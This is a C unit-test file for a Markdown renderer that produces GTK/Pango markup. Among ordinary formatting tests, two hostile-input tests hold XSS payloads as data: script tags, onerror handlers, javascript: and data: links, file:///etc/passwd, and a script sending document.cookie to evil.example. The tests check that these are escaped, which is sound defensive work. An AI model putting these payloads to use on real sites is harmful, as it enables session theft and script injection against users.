/* SPDX-License-Identifier: GPL-3.0-or-later */

#include "config.h"

#include <glib.h>
#include <string.h>

#include "bb-markdown.h"

/* Parses @markup the way GtkLabel does (GMarkup) and fails the test on any
 * element or attribute the renderer must never write. Returns the text a
 * reader sees. */
typedef struct {
  GString *text;
} MarkupCheck;

static void
check_start_element (GMarkupParseContext  *context,
                     const char           *element_name,
                     const char          **attribute_names,
                     const char          **attribute_values,
                     gpointer              user_data,
                     GError              **error)
{
  static const char * const allowed[] = { "markup", "b", "i", "tt", "a" };
  gboolean known = FALSE;

  for (gsize i = 0; i < G_N_ELEMENTS (allowed); i++)
    known |= g_str_equal (element_name, allowed[i]);
  if (!known)
    g_error ("unexpected element <%s>", element_name);

  if (g_str_equal (element_name, "a"))
    {
      g_assert_cmpstr (attribute_names[0], ==, "href");
      g_assert_null (attribute_names[1]);
      g_assert_true (g_str_has_prefix (attribute_values[0], "http://") ||
                     g_str_has_prefix (attribute_values[0], "https://") ||
                     g_str_has_prefix (attribute_values[0], "mailto:"));
    }
  else
    {
      g_assert_null (attribute_names[0]);
    }
}

static void
check_text (GMarkupParseContext  *context,
            const char           *text,
            gsize                 text_len,
            gpointer              user_data,
            GError              **error)
{
  MarkupCheck *check = user_data;

  g_string_append_len (check->text, text, text_len);
}

static char *
visible_text (const char *markup)
{
  static const GMarkupParser parser = {
    .start_element = check_start_element,
    .text = check_text,
  };
  g_autoptr(GError) error = NULL;
  g_autofree char *wrapped = g_strconcat ("<markup>", markup, "</markup>", NULL);
  MarkupCheck check = { g_string_new (NULL) };
  GMarkupParseContext *context = g_markup_parse_context_new (&parser, 0, &check, NULL);

  g_markup_parse_context_parse (context, wrapped, -1, &error);
  g_assert_no_error (error);
  g_markup_parse_context_end_parse (context, &error);
  g_assert_no_error (error);
  g_markup_parse_context_free (context);

  return g_string_free (check.text, FALSE);
}

static BbMarkdownBlock *
block_at (GPtrArray *blocks,
          guint      i)
{
  g_assert_cmpuint (i, <, blocks->len);
  return g_ptr_array_index (blocks, i);
}

static void
test_headings (void)
{
  g_autoptr(GPtrArray) blocks = bb_markdown_render ("# Huishoudelijk reglement\n\n"
                                                    "## Artikel 1\n\n"
                                                    "Leden\n-----\n\n"
                                                    "###### Klein\n\n"
                                                    "Gewone tekst.\n");

  g_assert_cmpuint (blocks->len, ==, 5);
  g_assert_cmpint (block_at (blocks, 0)->kind, ==, BB_MARKDOWN_BLOCK_HEADING);
  g_assert_cmpuint (block_at (blocks, 0)->level, ==, 1);
  g_assert_cmpstr (block_at (blocks, 0)->markup, ==, "Huishoudelijk reglement");
  g_assert_cmpuint (block_at (blocks, 1)->level, ==, 2);
  g_assert_cmpstr (block_at (blocks, 2)->markup, ==, "Leden");
  g_assert_cmpuint (block_at (blocks, 2)->level, ==, 2);
  g_assert_cmpuint (block_at (blocks, 3)->level, ==, 6);
  g_assert_cmpint (block_at (blocks, 4)->kind, ==, BB_MARKDOWN_BLOCK_PARAGRAPH);
  g_assert_cmpuint (block_at (blocks, 4)->level, ==, 0);
  g_assert_cmpstr (block_at (blocks, 4)->markup, ==, "Gewone tekst.");
}

static void
test_nested_lists (void)
{
  g_autoptr(GPtrArray) blocks = bb_markdown_render ("- Tafels\n"
                                                    "  - Zes stuks\n"
                                                    "  - Kleden\n"
                                                    "- Stoelen\n"
                                                    "\n"
                                                    "Daarna:\n\n"
                                                    "3) Opbouwen\n"
                                                    "4) Afbreken\n"
                                                    "\n"
                                                    "   met z'n allen\n"
                                                    "-\n");
  BbMarkdownBlock *b;

  g_assert_cmpuint (blocks->len, ==, 9);

  b = block_at (blocks, 0);
  g_assert_cmpstr (b->marker, ==, "•");
  g_assert_cmpuint (b->list_depth, ==, 1);
  g_assert_cmpstr (b->markup, ==, "Tafels");
  b = block_at (blocks, 1);
  g_assert_cmpstr (b->marker, ==, "◦");
  g_assert_cmpuint (b->list_depth, ==, 2);
  g_assert_cmpstr (b->markup, ==, "Zes stuks");
  g_assert_cmpuint (block_at (blocks, 2)->list_depth, ==, 2);
  b = block_at (blocks, 3);
  g_assert_cmpstr (b->marker, ==, "•");
  g_assert_cmpuint (b->list_depth, ==, 1);
  g_assert_cmpstr (b->markup, ==, "Stoelen");

  b = block_at (blocks, 4);
  g_assert_null (b->marker);
  g_assert_cmpuint (b->list_depth, ==, 0);

  /* Ordered lists keep their start number and delimiter; a second
   * paragraph of an item has no marker of its own. */
  b = block_at (blocks, 5);
  g_assert_cmpstr (b->marker, ==, "3)");
  g_assert_cmpstr (b->markup, ==, "Opbouwen");
  b = block_at (blocks, 6);
  g_assert_cmpstr (b->marker, ==, "4)");
  b = block_at (blocks, 7);
  g_assert_null (b->marker);
  g_assert_cmpuint (b->list_depth, ==, 1);
  g_assert_cmpstr (b->markup, ==, "met z&apos;n allen");

  /* An empty item still shows its bullet. */
  b = block_at (blocks, 8);
  g_assert_cmpstr (b->marker, ==, "•");
  g_assert_cmpstr (b->markup, ==, "");
}

static void
test_emphasis_and_code (void)
{
  g_autoptr(GPtrArray) blocks = bb_markdown_render ("Neem *altijd* **twee** sleutels mee: `kast-3`.  \n"
                                                    "Nieuwe regel, ***beide***.");

  g_assert_cmpuint (blocks->len, ==, 1);
  g_assert_cmpstr (block_at (blocks, 0)->markup, ==,
                   "Neem <i>altijd</i> <b>twee</b> sleutels mee: <tt>kast-3</tt>.\n"
                   "Nieuwe regel, <i><b>beide</b></i>.");
}

static void
test_links (void)
{
  g_autoptr(GPtrArray) blocks = bb_markdown_render ("Zie [de gemeente](https://www.eindhoven.nl/subsidie?a=1&b=\"2\") of "
                                                    "<http://example.org>, mail [ons](MAILTO:wijkraad@example.nl).");

  g_assert_cmpuint (blocks->len, ==, 1);
  g_assert_cmpstr (block_at (blocks, 0)->markup, ==,
                   "Zie <a href=\"https://www.eindhoven.nl/subsidie?a=1&amp;b=&quot;2&quot;\">de gemeente</a> of "
                   "<a href=\"http://example.org\">http://example.org</a>, mail "
                   "<a href=\"MAILTO:wijkraad@example.nl\">ons</a>.");

  g_assert_true (bb_markdown_is_safe_link ("https://example.org/a"));
  g_assert_true (bb_markdown_is_safe_link ("mailto:a@example.org"));
  g_assert_false (bb_markdown_is_safe_link ("javascript:alert(1)"));
  g_assert_false (bb_markdown_is_safe_link (" javascript:alert(1)"));
  g_assert_false (bb_markdown_is_safe_link ("data:text/html,<script>"));
  g_assert_false (bb_markdown_is_safe_link ("file:///etc/passwd"));
  g_assert_false (bb_markdown_is_safe_link ("reglement.md"));
  g_assert_false (bb_markdown_is_safe_link ("https://exa mple.org"));
  g_assert_false (bb_markdown_is_safe_link (""));
  g_assert_false (bb_markdown_is_safe_link (NULL));
}

static void
test_block_quotes_code_rules (void)
{
  g_autoptr(GPtrArray) blocks = bb_markdown_render ("> Wat werkte:\n"
                                                    "> > de buurtapp\n"
                                                    "\n"
                                                    "```sh\n"
                                                    "echo \"<b>\" & exit\n"
                                                    "\n"
                                                    "```\n"
                                                    "\n"
                                                    "***\n"
                                                    "\n"
                                                    "    ingesprongen code\n");

  g_assert_cmpuint (blocks->len, ==, 5);
  g_assert_cmpuint (block_at (blocks, 0)->quote_depth, ==, 1);
  g_assert_cmpstr (block_at (blocks, 0)->markup, ==, "Wat werkte:");
  g_assert_cmpuint (block_at (blocks, 1)->quote_depth, ==, 2);
  g_assert_cmpint (block_at (blocks, 2)->kind, ==, BB_MARKDOWN_BLOCK_CODE);
  g_assert_cmpuint (block_at (blocks, 2)->quote_depth, ==, 0);
  g_assert_cmpstr (block_at (blocks, 2)->markup, ==, "echo &quot;&lt;b&gt;&quot; &amp; exit");
  g_assert_cmpint (block_at (blocks, 3)->kind, ==, BB_MARKDOWN_BLOCK_RULE);
  g_assert_cmpstr (block_at (blocks, 3)->markup, ==, "");
  g_assert_cmpint (block_at (blocks, 4)->kind, ==, BB_MARKDOWN_BLOCK_CODE);
  g_assert_cmpstr (block_at (blocks, 4)->markup, ==, "ingesprongen code");
}

static void
test_hostile (void)
{
  static const struct {
    const char *source;
    const char *visible;
  } cases[] = {
    { "<script>alert('x')</script>", "<script>alert('x')</script>" },
    { "Hallo <script>alert(1)</script> daar", "Hallo <script>alert(1)</script> daar" },
    { "<img src=x onerror=\"alert(1)\">", "<img src=x onerror=\"alert(1)\">" },
    { "Foto: <img src=x onerror=alert(1)>", "Foto: <img src=x onerror=alert(1)>" },
    { "[klik](javascript:alert(1))", "klik" },
    { "[klik](JaVaScRiPt:alert(1))", "klik" },
    { "[klik](jav&#x61;script:alert(1))", "klik" },
    { "[klik](data:text/html;base64,PHNjcmlwdD4=)", "klik" },
    { "[klik](file:///etc/passwd)", "klik" },
    { "<javascript:alert(1)>", "javascript:alert(1)" },
    { "![plaatje](http://tracker.example/p.gif)", "plaatje" },
    { "<span foreground=\"red\" size=\"99999\">groot</span>", "<span foreground=\"red\" size=\"99999\">groot</span>" },
    { "a <span foreground='red'>b</span> c", "a <span foreground='red'>b</span> c" },
    { "&lt;b&gt;vet&lt;/b&gt; &amp; &#x26;", "<b>vet</b> & &" },
    { "Tom & Jerry < 3 > 2 \"quote\" 'apos'", "Tom & Jerry < 3 > 2 \"quote\" 'apos'" },
    { "[a](https://x.org/\"><span>)", "a" },
    { "![x [y](http://a.example)](http://img.example)", "x y" },
    { "[![foto](http://img.example)](http://b.example)", "foto" },
    { "ctrl\x01" "char and \x7f del", "ctrl\x01" "char and \x7f del" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GPtrArray) blocks = bb_markdown_render (cases[i].source);
      g_autoptr(GString) seen = g_string_new (NULL);

      for (guint j = 0; j < blocks->len; j++)
        {
          g_autofree char *text = visible_text (block_at (blocks, j)->markup);

          g_string_append (seen, text);
        }

      g_test_message ("case %" G_GSIZE_FORMAT, i);
      g_assert_cmpstr (seen->str, ==, cases[i].visible);
    }
}

static void
test_hostile_document (void)
{
  g_autoptr(GPtrArray) blocks = bb_markdown_render ("# Gratis <b>geld</b>\n"
                                                    "\n"
                                                    "<script>document.location='http://evil.example/'+document.cookie</script>\n"
                                                    "\n"
                                                    "<div onclick=\"steal()\">Klik hier</div>\n"
                                                    "\n"
                                                    "Lees [dit](javascript:steal()) en [dat](https://ok.example).\n");

  g_assert_cmpuint (blocks->len, ==, 4);
  g_assert_cmpstr (block_at (blocks, 0)->markup, ==, "Gratis &lt;b&gt;geld&lt;/b&gt;");
  /* HTML blocks keep their kind so the reader can show them as code. */
  g_assert_cmpint (block_at (blocks, 1)->kind, ==, BB_MARKDOWN_BLOCK_HTML);
  g_assert_cmpstr (block_at (blocks, 1)->markup, ==,
                   "&lt;script&gt;document.location=&apos;http://evil.example/&apos;+document.cookie&lt;/script&gt;");
  g_assert_cmpint (block_at (blocks, 2)->kind, ==, BB_MARKDOWN_BLOCK_HTML);
  g_assert_cmpstr (block_at (blocks, 3)->markup, ==,
                   "Lees dit en <a href=\"https://ok.example\">dat</a>.");
}

static void
test_invalid_input (void)
{
  g_autoptr(GString) deep = g_string_new (NULL);
  g_autoptr(GPtrArray) invalid = bb_markdown_render ("caf\xe9 \xff\xfe en\n\nnul");
  g_autoptr(GPtrArray) nested = NULL;
  g_autoptr(GPtrArray) empty = bb_markdown_render ("");
  g_autoptr(GPtrArray) null_doc = bb_markdown_render (NULL);

  /* Invalid bytes are replaced, never passed on to Pango. */
  g_assert_cmpuint (invalid->len, ==, 2);
  for (guint i = 0; i < invalid->len; i++)
    {
      g_autofree char *text = visible_text (block_at (invalid, i)->markup);

      g_assert_true (g_utf8_validate (block_at (invalid, i)->markup, -1, NULL));
      g_assert_nonnull (text);
    }

  /* Nesting deep enough to exhaust a recursive renderer's stack. */
  for (guint i = 0; i < 20000; i++)
    g_string_append (deep, "> ");
  for (guint i = 0; i < 5000; i++)
    g_string_append (deep, "- ");
  for (guint i = 0; i < 5000; i++)
    g_string_append (deep, "*a ");
  nested = bb_markdown_render (deep->str);
  g_assert_cmpuint (nested->len, >=, 1);
  for (guint i = 0; i < nested->len; i++)
    g_free (visible_text (block_at (nested, i)->markup));

  g_assert_cmpuint (empty->len, ==, 0);
  g_assert_cmpuint (null_doc->len, ==, 0);
}

static void
test_plain_text (void)
{
  g_autofree char *plain = bb_markdown_to_plain_text ("# Draaiboek\n\nNeem *altijd* de `sleutel`\nmee.\n\n- een\n- twee\n", 0);
  g_autofree char *cut = bb_markdown_to_plain_text ("Een heel lange zin over de burendag", 12);
  g_autofree char *html = bb_markdown_to_plain_text ("<b>vet</b>", 0);

  g_assert_cmpstr (plain, ==, "Draaiboek Neem altijd de sleutel mee. een twee");
  g_assert_cmpstr (cut, ==, "Een heel lan…");
  g_assert_cmpstr (html, ==, "<b>vet</b>");

  /* A search snippet keeps its match markers through the flattening. */
  {
    g_autofree char *marked = bb_markdown_to_plain_text ("## Wat werkte\n\nEen *\002vaste\003* dag", 0);

    g_assert_cmpstr (marked, ==, "Wat werkte Een \002vaste\003 dag");
  }
}

static void
test_highlight (void)
{
  static const struct {
    const char *text;
    const char *query;
    const char *markup;
  } cases[] = {
    { "Vrijwilligers & <buren>", "vrijwil", "<b>Vrijwilligers</b> &amp; &lt;buren&gt;" },
    { "Het CAFÉ op de hoek", "cafe", "Het <b>CAFÉ</b> op de hoek" },
    { "Het café op de hoek", "Café hoek", "Het <b>café</b> op de <b>hoek</b>" },
    { "Subsidie aanvragen", "aanvraag", "Subsidie aanvragen" },
    { "Geen zoekterm", "", "Geen zoekterm" },
    { "<span>x</span>", "span", "&lt;<b>span</b>&gt;x&lt;/<b>span</b>&gt;" },
    { "Burendag buren", "<b>bur", "<b>Burendag</b> <b>buren</b>" },
    { "Ongeldig \xff teken", "teken", "Ongeldig \xef\xbf\xbd <b>teken</b>" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *markup = bb_markdown_highlight (cases[i].text, cases[i].query);
      g_autofree char *text = visible_text (markup);

      g_test_message ("case %" G_GSIZE_FORMAT, i);
      g_assert_cmpstr (markup, ==, cases[i].markup);
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/bb/markdown/headings", test_headings);
  g_test_add_func ("/bb/markdown/nested-lists", test_nested_lists);
  g_test_add_func ("/bb/markdown/emphasis-and-code", test_emphasis_and_code);
  g_test_add_func ("/bb/markdown/links", test_links);
  g_test_add_func ("/bb/markdown/block-quotes-code-rules", test_block_quotes_code_rules);
  g_test_add_func ("/bb/markdown/hostile", test_hostile);
  g_test_add_func ("/bb/markdown/hostile-document", test_hostile_document);
  g_test_add_func ("/bb/markdown/invalid-input", test_invalid_input);
  g_test_add_func ("/bb/markdown/plain-text", test_plain_text);
  g_test_add_func ("/bb/markdown/highlight", test_highlight);

  return g_test_run ();
}
